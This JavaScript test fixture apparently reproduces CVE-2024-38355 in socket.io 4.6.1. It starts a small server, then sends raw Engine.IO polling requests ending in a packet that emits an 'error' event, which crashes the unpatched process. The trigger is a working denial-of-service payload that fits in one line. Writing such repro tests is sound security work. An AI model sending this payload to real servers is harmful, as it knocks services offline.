// A client names its event `error`: the server's socket emits it, and nobody listens.
module.exports = {
  expects: "crash.uncaught",
  pkg: "socket.io@4.6.1",
  issue: "socketio/socket.io#476, #3036 (CVE-2024-38355)",
  ms: 4_000,
  start() {
    const { Server } = require("socket.io");
    const app = require("express")();
    app.get("/health", (_request, response) => response.send("ok"));
    const server = require("node:http").createServer(app);
    new Server(server).on("connection", (socket) => socket.on("say", (text) => socket.broadcast.emit("said", text)));
    return server;
  },
  async trigger({ req, sleep }) {
    const path = "/socket.io/?EIO=4&transport=polling";
    const { body: opened } = await req({ path });
    const { sid } = JSON.parse(opened.slice(1));
    const post = (body) =>
      req({ path: `${path}&sid=${sid}`, method: "POST", headers: { "content-length": body.length }, body });
    await post("40");
    await req({ path: `${path}&sid=${sid}` });
    await post('42["say","hello"]');
    await post('42["error","of mine"]');
    await sleep(100);
  },
};
